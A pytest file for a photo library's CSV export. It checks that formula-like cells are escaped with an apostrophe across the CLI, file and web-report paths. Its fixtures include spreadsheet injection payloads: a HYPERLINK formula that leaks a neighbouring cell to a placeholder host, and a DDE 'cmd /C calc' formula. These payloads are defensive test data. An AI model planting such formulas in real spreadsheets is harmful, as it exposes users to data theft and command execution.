"""The one CSV writer: formula-like cells defused and UTF-8 with a BOM, in every CSV output."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest

from library.db.engine import Database
from library.reports.csvfile import BOM, csv_bytes, escape_cell, write_csv_file
from tests.webui.webutil import add_article, create_asset, make_app, signed_in

#: The credit from the issue: a live link that leaks the next cell when clicked.
HOSTILE_CREDIT = '=HYPERLINK("http://x/?d="&A2,"Open")'
PERSIAN = "عکس از خبرگزاری"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Ana Díaz", "Ana Díaz"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (-3, -3),
        (12, 12),
    ],
)
def test_escape_cell(value: Any, written: Any) -> None:
    assert escape_cell(value) == written


def _rows(data: bytes) -> list[list[str]]:
    assert data.startswith(BOM.encode("utf-8")), data[:10]
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_bytes_round_trip() -> None:
    data = csv_bytes(["name", "n"], [[HOSTILE_CREDIT, 1], ["é ü " + PERSIAN, 2], ["-", -4]])
    rows = _rows(data)
    assert rows == [
        ["name", "n"],
        ["'" + HOSTILE_CREDIT, "1"],
        ["é ü " + PERSIAN, "2"],
        ["'-", "-4"],
    ]


def test_write_csv_file(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    assert write_csv_file(target, ["a"], [["+x"], ["line\nbreak"]]) == 2
    assert _rows(target.read_bytes()) == [["a"], ["'+x"], ["line\nbreak"]]


@pytest.fixture
def reused(database: Database) -> Database:
    """A photo credited with a formula, used in two articles with a Persian caption: once
    without a credit (under a formula-like title), once with another credit."""
    photo = create_asset(database, caption="Harbour", credit=HOSTILE_CREDIT)
    uses = (
        (1, "=cmd|' /C calc'!A0", None),
        (2, f"{PERSIAN} é ü", HOSTILE_CREDIT),
        (3, "Third", "Ana"),
    )
    for day, title, credit in uses:
        add_article(
            database,
            title,
            [(photo, f"{PERSIAN} é ü", "alt")],
            published=datetime(2024, 5, day),
            credit=credit,
        )
    return database


def _assert_defused(rows: list[list[str]]) -> None:
    cells = [cell for row in rows for cell in row]
    assert "'" + HOSTILE_CREDIT in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_reuse_report_csv_from_the_cli(reused: Database, run: Any, tmp_path: Path) -> None:
    target = tmp_path / "reuse.csv"
    result = run("report", "reuse", "--format", "csv", "-o", str(target))
    assert result.exit_code == 0, result.stderr
    rows = _rows(target.read_bytes())
    _assert_defused(rows)
    assert "'=cmd|' /C calc'!A0" in [cell for row in rows for cell in row]
    assert any(f"{PERSIAN} é ü" in cell for row in rows for cell in row)
    printed = run("report", "reuse", "--format", "csv")
    assert printed.exit_code == 0
    # The runner shows standard output with CRLF turned into LF.
    assert printed.stdout == target.read_bytes().decode("utf-8").replace("\r\n", "\n")


def test_credits_csv_from_the_cli(reused: Database, run: Any) -> None:
    result = run("report", "credits", "--format", "csv")
    assert result.exit_code == 0, result.stderr
    rows = _rows(result.stdout.encode("utf-8"))
    assert rows[0] == ["credit", "usages", "articles", "photos"]
    assert ["'" + HOSTILE_CREDIT, "1", "1", "1"] in rows
    _assert_defused(rows)


def test_reuse_csv_from_the_gallery(reused: Database) -> None:
    app = make_app(reused.config)
    try:
        client = app.test_client()
        signed_in(client, reused, "auditor")
        response = client.get("/reports/reuse.csv")
        assert response.status_code == 200
        assert response.mimetype == "text/csv"
        assert response.mimetype_params.get("charset") == "utf-8"
        rows = _rows(response.data)
        _assert_defused(rows)
        assert any(f"{PERSIAN} é ü" in cell for row in rows for cell in row)
    finally:
        app.extensions["photodesk"].database.dispose()
